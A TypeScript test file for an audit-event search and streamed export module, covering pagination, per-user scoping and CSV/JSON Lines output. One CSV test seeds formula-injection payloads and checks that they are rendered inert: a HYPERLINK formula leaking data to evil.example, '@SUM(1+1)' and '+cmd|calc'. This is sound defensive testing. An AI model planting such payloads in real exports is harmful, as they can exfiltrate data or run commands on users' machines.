// Audit search (scope, filters, keyset pages) and streamed export (CSV inert against formula
// injection, JSON Lines) against the real database.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createPrismaClient, type Db } from '@/lib/db/create-client';
import { appendAuditEvent } from './append-audit-event';
import { auditEventSelect, EXPORT_COLUMNS, toAuditEventView } from './audit-event-view';
import { csvLine } from './csv';
import { exportAuditEvents } from './export-audit-events';
import { searchAuditEvents } from './search-audit-events';

let db: Db;
beforeAll(() => {
  db = createPrismaClient(inject('databaseUrl'));
});
afterAll(async () => {
  await db?.$disconnect();
});

async function seed(sub: string, n: number, over: { name?: string; key?: (i: number) => string } = {}) {
  for (let i = 0; i < n; i++) {
    await appendAuditEvent(db, {
      type: i % 2 === 0 ? 'ISSUE_REQUESTED' : 'ISSUE_SUCCEEDED',
      outcome: i % 2 === 0 ? undefined : 'success',
      actor: { sub, email: `${sub}@example.com`, name: over.name ?? 'Test Person', groups: ['grp-a', sub], idpKind: 'OIDC' },
      roleArn: 'arn:aws:iam::111122223333:role/DevReadOnly',
      accountId: '111122223333',
      sessionName: `${sub}@example.com`,
      sourceIp: '198.51.100.4',
      accessKeyId: over.key ? over.key(i) : null,
      details: { i },
    });
  }
}

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe('searchAuditEvents', () => {
  it('pages newest first by keyset, without gaps or repeats', async () => {
    const sub = `s-${randomUUID()}`;
    await seed(sub, 7);
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let page = 0; page < 10; page++) {
      const r = await searchAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, cursor, limit: 3 });
      seen.push(...r.events.map((e) => e.id));
      if (!r.nextCursor) break;
      cursor = r.nextCursor;
    }
    expect(seen).toHaveLength(7);
    expect(new Set(seen).size).toBe(7);
    expect([...seen].sort((a, b) => Number(BigInt(b) - BigInt(a)))).toEqual(seen);
  });

  it('finds the one event of an AccessKeyId, and keeps an employee to their own events', async () => {
    const sub = `s-${randomUUID()}`;
    const other = `s-${randomUUID()}`;
    const key = `ASIA${randomUUID().replace(/-/g, '').slice(0, 16).toUpperCase()}`;
    await seed(sub, 2, { key: (i) => (i === 1 ? key : '') });
    await seed(other, 2);
    const found = await searchAuditEvents({ db, scope: { kind: 'everyone' }, filters: { accessKeyId: key } });
    expect(found.events.map((e) => [e.type, e.actorSub, e.sessionName])).toEqual([['ISSUE_SUCCEEDED', sub, `${sub}@example.com`]]);
    // The other person's events stay invisible even when asked for by name.
    const mine = await searchAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { person: other } });
    expect(mine.events).toEqual([]);
    const own = await searchAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: {} });
    expect(own.events.every((e) => e.actorSub === sub)).toBe(true);
    expect(own.events).toHaveLength(2);
  });
});

describe('exportAuditEvents', () => {
  it('a CSV export of rows containing =HYPERLINK(...) in a label is inert', async () => {
    const sub = `s-${randomUUID()}`;
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await seed(sub, 3, { name: evil });
    await appendAuditEvent(db, { type: 'MAPPING_CREATED', actor: { sub, email: null, name: '@SUM(1+1)', groups: [sub], idpKind: 'OIDC' }, details: { roleLabel: '+cmd|calc' } });
    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv' }));
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toMatch(/^id,occurredAt,type,/);
    expect(lines).toHaveLength(1 + 4);
    // No cell starts with a formula character once parsed: every such value carries a leading '.
    const cells = lines.slice(1).flatMap((l) => l.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"'));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(csv).toContain(`"'${evil.replace(/"/g, '""')}"`);
    expect(csv).toContain("'@SUM(1+1)");
  });

  it('streams JSON Lines in batches with every row once', async () => {
    const sub = `s-${randomUUID()}`;
    await seed(sub, 5);
    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl' }));
    const rows = text.trimEnd().split('\n').map((l) => JSON.parse(l) as { id: string; actorSub: string; hash: string });
    expect(rows).toHaveLength(5);
    expect(new Set(rows.map((r) => r.id)).size).toBe(5);
    expect(rows.every((r) => r.actorSub === sub && /^[0-9a-f]{64}$/.test(r.hash))).toBe(true);
  });

  it('exports exactly what Prisma reads for each row, awkward values included', async () => {
    const sub = `s-${randomUUID()}`;
    const odd = ['-1+1', 'tab\there', 'line\nbreak, "quoted"', 'émoji 🔑 \u0001 ctrl', '\\back\\slash', ''];
    for (const [i, text] of odd.entries()) {
      await appendAuditEvent(db, {
        type: 'ISSUE_SUCCEEDED',
        outcome: 'success',
        intentId: randomUUID(),
        requestId: text,
        actor: { sub, email: i % 2 ? null : `${sub}@example.com`, name: text, groups: i === 0 ? [sub] : [sub, text, 'g;h'], idpKind: 'SAML' },
        mappingId: randomUUID(),
        roleArn: `arn:aws:iam::111122223333:role/${text}`,
        durationSeconds: i === 1 ? null : 3600 + i,
        userAgent: text,
        expiresAt: i === 2 ? null : new Date(Date.UTC(2031, 0, 2, 3, 4, 5, i * 7)),
        details: { text, n: 12345678901234567890, f: 1.5, nested: { a: [1, 'two', null, { b: text }] }, empty: {}, unicode: 'ü\u2028' },
      });
    }
    const expected = (
      await db.auditEvent.findMany({ where: { actorSub: sub }, orderBy: [{ occurredAt: 'desc' }, { id: 'desc' }], select: auditEventSelect })
    ).map(toAuditEventView);
    const jsonl = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'jsonl' }));
    expect(jsonl).toBe(expected.map((e) => `${JSON.stringify(Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, e[c]])))}\n`).join(''));
    const csv = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: sub }, format: 'csv' }));
    const cells = (e: (typeof expected)[number]) =>
      EXPORT_COLUMNS.map((c) => (c === 'actorGroups' ? e.actorGroups.join(';') : c === 'details' ? JSON.stringify(e.details ?? {}) : (e[c] as string | number | null)));
    expect(csv).toBe(csvLine(EXPORT_COLUMNS) + expected.map((e) => csvLine(cells(e))).join(''));
  });

  it('an export that matches nothing is the header alone, and an employee exports only their own events', async () => {
    const sub = `s-${randomUUID()}`;
    const other = `s-${randomUUID()}`;
    await seed(sub, 3);
    await seed(other, 2);
    expect(await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { group: `none-${randomUUID()}` }, format: 'csv' }))).toBe(csvLine(EXPORT_COLUMNS));
    const own = await readAll(exportAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { group: other }, format: 'jsonl' }));
    expect(own).toBe('');
    const mine = await readAll(exportAuditEvents({ db, scope: { kind: 'own', actorSub: sub }, filters: { group: 'grp-a' }, format: 'jsonl' }));
    expect(mine.trimEnd().split('\n').map((l) => (JSON.parse(l) as { actorSub: string }).actorSub)).toEqual([sub, sub, sub]);
  });
  it('exports by person exactly what the search pages through: every e-mail of the person, and session-name events', async () => {
    const sub = `s-${randomUUID()}`;
    const email = `${sub}@example.com`;
    await seed(sub, 5);
    // The same person under an earlier e-mail, and a revocation naming their session (actor: an admin).
    await appendAuditEvent(db, { type: 'ISSUE_REQUESTED', actor: { sub, email: `old-${email}`, name: 'Test Person', groups: [], idpKind: 'OIDC' }, details: {} });
    await appendAuditEvent(db, { type: 'REVOCATION_CREATED', actor: { sub: `admin-${sub}`, email: null, name: 'Admin', groups: [], idpKind: 'OIDC' }, sessionName: email, details: {} });
    const searched: string[] = [];
    let cursor: string | undefined;
    do {
      const page = await searchAuditEvents({ db, scope: { kind: 'everyone' }, filters: { person: email }, limit: 2, ...(cursor ? { cursor } : {}) });
      searched.push(...page.events.map((e) => e.id));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(searched).toHaveLength(7);
    const text = await readAll(exportAuditEvents({ db, scope: { kind: 'everyone' }, filters: { person: email }, format: 'jsonl' }));
    expect(text.trimEnd().split('\n').map((l) => (JSON.parse(l) as { id: string }).id)).toEqual(searched);
  });
});
